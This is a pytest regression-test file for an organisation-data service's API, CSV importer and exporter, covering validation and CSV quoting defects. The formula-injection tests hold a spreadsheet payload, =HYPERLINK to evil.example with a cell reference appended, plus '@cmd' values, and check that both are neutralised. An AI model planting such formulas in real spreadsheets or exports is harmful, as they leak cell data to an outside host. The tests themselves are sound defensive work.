"""Regression tests of issue 11 ("integrity"): each test names the defect it guards against.

* defect 1: the export quotes a carriage return; ids, blank names and infinite numbers the
  API used to accept but the importer refused;
* defect 6: cursors that decode to a negative, huge or non-integer offset; a 100,000-character
  name;
* defect 7: a compliance report of a department that does not exist;
* defect 8: malformed quoting in an imported CSV file;
* defect 9: ids with control characters, names of only spaces, an end before the start, years
  0062 and 7673, through the API and through the importer;
* defect 10: spreadsheet formula injection in the RACI CSV and the compliance report's CSV,
  while the interchange export keeps the value as it is.
"""

from __future__ import annotations

import base64
import csv
import io
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from api_client import data, error, gql
from conftest import GraphHandle, LiveServer, LoopThread, new_database, serving

from domain.csvtext import csv_line, spreadsheet_cell
from graph.engine import EmbeddedEngine
from graph.exporter import export_directory, write_file
from graph.importer import ImportFailed
from graph.interchange import Problem, read_directory
from rules.report import Report, Violation, render_csv
from schema.ontology import default_ontology
from schema.values import MAX_KEY, MAX_LINE

CLEAN = Path(__file__).parent / "data" / "clean_org"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


@pytest.fixture(scope="module")
def org(engine: EmbeddedEngine, loop_thread: LoopThread) -> Iterator[GraphHandle]:
    handle = new_database(engine, loop_thread, prefix="integ")
    handle.import_dir(CLEAN)
    yield handle
    handle.close()


@pytest.fixture(scope="module")
def server(org: GraphHandle) -> Iterator[LiveServer]:
    with serving(org.connection) as live:
        yield live


def _bad_input(client: object, query: str, field: str, **variables: object) -> str:
    """The request fails with BAD_INPUT naming ``field``; returns the message."""
    err = error(client, query, **variables)  # type: ignore[arg-type]
    assert err["extensions"]["code"] == "BAD_INPUT", err
    assert err["extensions"]["field"] == field, err
    message: str = err["message"]
    assert message != "Unexpected error."
    return message


# -- defect 1: what the API accepts, the export writes and the importer reads back ---------------

def test_a_carriage_return_is_quoted_in_the_export(tmp_path: Path) -> None:
    """Python's csv writer with ``\\n`` line ends leaves a CR unquoted (``RT1,第一行\\r第二行``),
    which splits the row; the interchange writer quotes it and the reader gets it back."""
    assert csv_line(["RT1", "第一行\r第二行", 'say "hi", ok', " x "]) == \
        'RT1,"第一行\r第二行","say ""hi"", ok", x \n'
    write_file(tmp_path / "responsibilities.csv", ("id", "name", "description", "process"),
               [["RT1", "职责", "第一行\r第二行", ""]])
    assert (tmp_path / "responsibilities.csv").read_bytes().decode() == \
        'id,name,description,process\nRT1,职责,"第一行\r第二行",\n'
    parsed = read_directory(tmp_path, default_ontology())
    assert parsed.problems == []
    assert parsed.nodes["Responsibility"].rows[0]["props"]["description"] == "第一行\n第二行"


def test_values_the_importer_refuses_the_api_refuses_too(server: LiveServer,
                                                         org: GraphHandle) -> None:
    """``CX`` and ``CX `` were two records for the API but duplicates on import; a name of
    one space was accepted by the API but "a value is required" on import; 1e400 was saved as
    infinity (and every later read of it failed)."""
    c = server.client
    data(c, 'mutation { createCertificate(input: {id: "CX", name: "证书"}) { id } }')
    err = error(c, 'mutation { createCertificate(input: {id: "CX ", name: "证书"}) { id } }')
    assert err["extensions"]["code"] == "CONFLICT"
    assert _bad_input(c, 'mutation { createCertificate(input: {id: "CY", name: " "}) { id } }',
                      "name") == "name: a value is required"
    _bad_input(c, 'mutation { createKpi(input: {id: "KX", name: "k", '
                  'direction: HIGHER_IS_BETTER, target: 1e400}) { id } }', "target")
    # the same number as a JSON variable (which json.dumps cannot even write: sent as text)
    body = ('{"query": "mutation($t: Float) { createKpi(input: {id: \\"KX\\", name: \\"k\\", '
            'direction: HIGHER_IS_BETTER, target: $t}) { id } }", "variables": {"t": 1e400}}')
    response = c.post("/graphql", content=body, headers={"Content-Type": "application/json"})
    assert response.status_code in (200, 400), response.text
    assert "non numeric value: inf" in response.text, response.text  # graphql-core refuses it
    assert response.json()["errors"][0]["extensions"]["code"] == "BAD_INPUT"
    assert org.read("MATCH (n) WHERE n.id IN ['CY', 'KX'] RETURN count(n) AS c")[0]["c"] == 0


def test_a_defaulted_property_left_out_is_stored_as_its_default(server: LiveServer,
                                                                org: GraphHandle,
                                                                tmp_path: Path) -> None:
    """The importer reads an empty ``is_key`` cell as its default (false); the API left it
    out, so the export's empty cell came back as ``false`` (found by the round-trip property
    test). Now both store the default, and ``null`` in an update restores it."""
    c = server.client
    data(c, 'mutation { createPosition(input: {id: "PD1", title: "t", grade: 1, '
            'category: SUPPORT, headcount: 1, departmentId: "D1"}) { id } }')
    data(c, 'mutation { setRequirement(input: {positionId: "PD1", competencyId: "C1", '
            'level: 2}) { id } }')
    got = data(c, '{ position(id: "PD1") { isKey requirements { weight mandatory } } }')
    assert got["position"] == {"isKey": False,
                               "requirements": [{"weight": 1.0, "mandatory": False}]}
    data(c, 'mutation { updatePosition(id: "PD1", input: {isKey: true}) { id } }')
    assert data(c, 'mutation { updatePosition(id: "PD1", input: {isKey: null}) { isKey } }') \
        == {"updatePosition": {"isKey": False}}
    org.run(lambda g: export_directory(g, tmp_path))
    row = next(r for r in csv.DictReader(io.StringIO(
        (tmp_path / "positions.csv").read_text(encoding="utf-8"))) if r["id"] == "PD1")
    assert row["is_key"] == "false"


# -- defect 6: cursors and very long values --------------------------------------------------

def _cursor(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode()


@pytest.mark.parametrize("offset", ["-5", "99999999999999999999", "9223372036854775807",
                                    "1.5", " 5", "1_0", "", "2147483647"])
def test_a_bad_cursor_is_bad_input_naming_after(demo_server: LiveServer, offset: str) -> None:
    """These offsets reached the engine and failed there ("Unexpected error.")."""
    cursor = _cursor(f"offset:{offset}")
    _bad_input(demo_server.client, "query($a: String) { positions(after: $a) { totalCount } }",
               "after", a=cursor)
    _bad_input(demo_server.client, "query($a: String) { auditLog(after: $a) { totalCount } }",
               "after", a=cursor)


def test_a_good_cursor_still_pages(demo_server: LiveServer) -> None:
    page = data(demo_server.client, "{ positions(first: 2) { pageInfo { endCursor } } }")
    cursor = page["positions"]["pageInfo"]["endCursor"]
    after = data(demo_server.client, "query($a: String) { positions(first: 1, after: $a) "
                                     "{ edges { node { id } } } }", a=cursor)
    assert after["positions"]["edges"][0]["node"]["id"] == "P003"


def test_a_name_of_100000_characters_is_bad_input(demo_server: LiveServer) -> None:
    """The engine failed on commit ("Unexpected error."); now the value rules refuse it."""
    message = _bad_input(
        demo_server.client,
        "mutation($n: String!) { createCertificate(input: {id: \"CLONG\", name: $n}) { id } }",
        "name", n="长" * 100_000)
    assert message == f"name: at most {MAX_LINE} characters, not 100000"


# -- defect 7: an unknown department --------------------------------------------------------------

def test_a_compliance_report_of_an_unknown_department_is_not_found(
        demo_server: LiveServer) -> None:
    """It answered "conforms" for a department that does not exist."""
    err = error(demo_server.client, '{ complianceReport(department: "D99") { conforms } }')
    assert err["extensions"] == {"code": "NOT_FOUND", "field": "department"}
    assert "D99" in err["message"]


# -- defect 8: malformed quoting in an import ------------------------------------------------------

EMPLOYEES = "id,name,hire_date\nE9201,a,2022-01-10\n"


def _parse(tmp_path: Path, files: dict[str, str]) -> list[str]:
    for name, text in files.items():
        (tmp_path / name).write_text(text, encoding="utf-8")
    return [str(p) for p in read_directory(tmp_path, default_ontology()).problems]


def test_an_unterminated_quote_is_refused_at_the_line_it_starts(tmp_path: Path) -> None:
    """``E9202,"b ,2022-01-10`` swallowed the rows after it: 2 rows imported, exit 0."""
    problems = _parse(tmp_path, {"employees.csv": EMPLOYEES + 'E9202,"b ,2022-01-10\n'
                                                  "E9203,c,2022-01-11\nE9204,d,2022-01-12\n"})
    assert problems == ["employees.csv:3: column name: a quoted field is not closed: its "
                        "quote runs to the end of the file"]


@pytest.mark.parametrize(("row", "column", "reason"), [
    ('E9202,"b"x,2022-01-10', "name", "text after the closing quote"),
    ('E9202,b"x,2022-01-10', "name", "a quote inside a field that is not quoted"),
    ('E9202,b,"2022-01-10""', "hire_date", "a quoted field is not closed"),
])
def test_malformed_quoting_is_refused(tmp_path: Path, row: str, column: str,
                                      reason: str) -> None:
    problems = _parse(tmp_path, {"employees.csv": EMPLOYEES + row + "\nE9203,c,2022-01-11\n"})
    assert len(problems) == 1 and problems[0].startswith(f"employees.csv:3: column {column}: "
                                                         f"{reason}"), problems


def test_a_quoted_field_over_several_lines_names_the_line_it_starts_on(tmp_path: Path) -> None:
    text = ('id,name,description,process\nR1,"a, b","line 1\nline 2",p\n'
            'R2,x,"open\nstill open\n')
    assert _parse(tmp_path, {"responsibilities.csv": text}) == [
        "responsibilities.csv:4: column description: a quoted field is not closed: its quote "
        "runs to the end of the file"]


def test_a_malformed_file_imports_nothing(empty_graph: GraphHandle, tmp_path: Path) -> None:
    directory = tmp_path / "org"
    shutil.copytree(CLEAN, directory)
    with (directory / "employees.csv").open("a", encoding="utf-8") as fh:
        fh.write('E9202,"b ,2022-01-10\n')
    with pytest.raises(ImportFailed) as failed:
        empty_graph.import_dir(directory)
    assert [str(p) for p in failed.value.problems] == [
        "employees.csv:6: column name: a quoted field is not closed: its quote runs to the "
        "end of the file"]
    assert empty_graph.read("MATCH (n) RETURN count(n) AS c")[0]["c"] == 0


# -- defect 9: the value rules through the API and the importer ------------------------------------

@pytest.mark.parametrize("bad_id", ["E\x00X", "E\x07X", "E\nX", "E\tX", "E X", "_E", "-E",
                                    "E" * (MAX_KEY + 1)])
def test_a_bad_id_is_bad_input(server: LiveServer, bad_id: str) -> None:
    _bad_input(server.client, "mutation($id: String!) { createCertificate(input: "
                              "{id: $id, name: \"c\"}) { id } }", "id", id=bad_id)


def test_the_value_rules_through_the_api(server: LiveServer, org: GraphHandle) -> None:
    c = server.client
    _bad_input(c, 'mutation { createEmployee(input: {id: "EB1", name: "   "}) { id } }', "name")
    _bad_input(c, 'mutation { createEmployee(input: {id: "EB1", name: "a\\u0000b"}) { id } }',
               "name")
    _bad_input(c, 'mutation { createEmployee(input: {id: "EB1", name: "第一行\\r第二行"}) '
                  '{ id } }', "name")
    for year in ("0062", "7673"):
        message = _bad_input(c, f'mutation {{ createEmployee(input: {{id: "EB1", name: "n", '
                                f'hireDate: "{year}-05-01"}}) {{ id }} }}', "hireDate")
        assert "is not a date between 1900 and 2100" in message
    message = _bad_input(c, 'mutation { assignPosition(input: {employeeId: "E1", '
                            'positionId: "P2", startDate: "2026-05-01", endDate: "2026-04-30"}) '
                            "{ id } }", "endDate")
    assert message == "end_date: end_date 2026-04-30 lies before start_date 2026-05-01"
    _bad_input(c, 'mutation { createContract(input: {id: "CTB", employeeId: "E1", '
                  'type: FIXED_TERM, startDate: "2026-05-01", endDate: "2025-05-01"}) { id } }',
               "endDate")
    _bad_input(c, 'mutation { updateContract(id: "CT2", input: {startDate: "2022-01-01"}) '
                  "{ id } }", "endDate")  # its end is 2021-06-30
    _bad_input(c, 'mutation { createPerformanceReview(input: {employeeId: "E1", '
                  'period: "2025 H1", rating: 3}) { id } }', "period")
    assert org.read("MATCH (n) WHERE n.id IN ['EB1', 'CTB'] RETURN count(n) AS c")[0]["c"] == 0
    assert org.read("MATCH (:Employee {id: 'E1'})-[r:HOLDS_POSITION]->(:Position {id: 'P2'}) "
                    "RETURN count(r) AS c")[0]["c"] == 0


def test_the_value_rules_through_the_importer(tmp_path: Path) -> None:
    """The same values in interchange files: each a problem naming file, line and column."""
    problems = _parse(tmp_path, {
        "employees.csv": "id,name,hire_date\nE1,a,2020-01-01\n\"E\x07X\",b,\n"
                         "\"E\nX\",c,\nE2,   ,\nE3,d,0062-05-01\nE4,e,7673-05-01\n"
                         "E5,\"第一行\r第二行\",\n",
        "employee_positions.csv": "employee_id,position_id,start_date,end_date\n"
                                  "E1,P1,2026-05-01,2026-04-30\n",
        "contracts.csv": "id,employee_id,type,start_date,end_date\n"
                         "CT1,E1,fixed_term,2026-05-01,2025-05-01\n",
        "performance_reviews.csv": "employee_id,period,rating\nE1,2025 H1,3\n",
        "positions.csv": "id,title,department_id,grade,category,headcount\n"
                         "P1,t,D1,1,support,1000000000000\n",
    })
    assert problems == [
        "contracts.csv:2: column end_date: end_date 2025-05-01 lies before start_date "
        "2026-05-01",
        "employee_positions.csv:2: column end_date: end_date 2026-04-30 lies before "
        "start_date 2026-05-01",
        "employees.csv:3: column id: 'E\\x07X' is not an id: letters, digits and _ . - / : "
        "only, starting with a letter or digit",
        "employees.csv:4: column id: 'E\\nX' is not an id: letters, digits and _ . - / : "
        "only, starting with a letter or digit",
        "employees.csv:6: column name: a value is required",
        "employees.csv:7: column hire_date: 0062-05-01 is not a date between 1900 and 2100",
        "employees.csv:8: column hire_date: 7673-05-01 is not a date between 1900 and 2100",
        "employees.csv:9: column name: holds a control character (0x0d)",
        "performance_reviews.csv:2: column period: '2025 H1' is not an id: letters, digits "
        "and _ . - / : only, starting with a letter or digit",
        "positions.csv:2: column headcount: 1000000000000 is not a whole number between "
        "-2147483648 and 2147483647",
    ]


def test_problem_lines_count_lines_not_rows() -> None:
    """A problem's line is the file's line (a quoted field over two lines counts two)."""
    assert str(Problem("f.csv", 4, "name", "x")) == "f.csv:4: column name: x"


# -- defect 10: formula injection in files for spreadsheet programs --------------------------------

@pytest.mark.parametrize(("value", "shown"), [
    (FORMULA, "'" + FORMULA), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("x=1", "x=1"), ("", ""), ("张三", "张三")])
def test_spreadsheet_cells_never_start_like_a_formula(value: str, shown: str) -> None:
    assert spreadsheet_cell(value) == shown


def test_the_compliance_csv_neutralises_formulas() -> None:
    report = Report(violations=(Violation(
        "r", "pack", "error", "Employee", "E1", FORMULA, "name", "-5", "msg", ""),),
        results=(), seconds=0.0)
    rows = list(csv.reader(io.StringIO(render_csv(report))))
    assert rows[1][5] == "'" + FORMULA and rows[1][7] == "'-5"


def test_the_raci_csv_neutralises_formulas_and_the_export_escapes_them_reversibly(
        server: LiveServer, org: GraphHandle, engine: EmbeddedEngine, loop_thread: LoopThread,
        tmp_path: Path) -> None:
    """A responsibility named ``=HYPERLINK(...)`` went into /raci.csv as is. The interchange
    export writes it with one more leading quote (safe to open in Excel), and importing the
    export gives the value back unchanged."""
    c = server.client
    data(c, "mutation($n: String!) { createResponsibility(input: {id: \"RF1\", name: $n, "
            "process: \"@cmd\"}) { id } }", n=FORMULA)
    data(c, 'mutation { assignResponsibility(input: {positionId: "P1", responsibilityId: '
            '"RF1", raci: A}) { id } }')
    response = c.get("/raci.csv", params={"department": "D1"})
    assert response.status_code == 200, response.text
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if r[0] == "RF1")
    assert row[1:3] == ["'" + FORMULA, "'@cmd"]
    org.run(lambda g: export_directory(g, tmp_path))
    exported = (tmp_path / "responsibilities.csv").read_text(encoding="utf-8")
    assert 'RF1,"\'=HYPERLINK(""http://evil.example/?""&A1,""点击"")",,\'@cmd\n' in exported
    assert gql(c, '{ responsibility(id: "RF1") { name } }')["data"]["responsibility"] == \
        {"name": FORMULA}
    other = new_database(engine, loop_thread)
    try:
        other.import_dir(tmp_path)
        assert other.read("MATCH (r:Responsibility {id: 'RF1'}) RETURN r.name AS name, "
                          "r.process AS process") == [{"name": FORMULA, "process": "@cmd"}]
    finally:
        other.close()
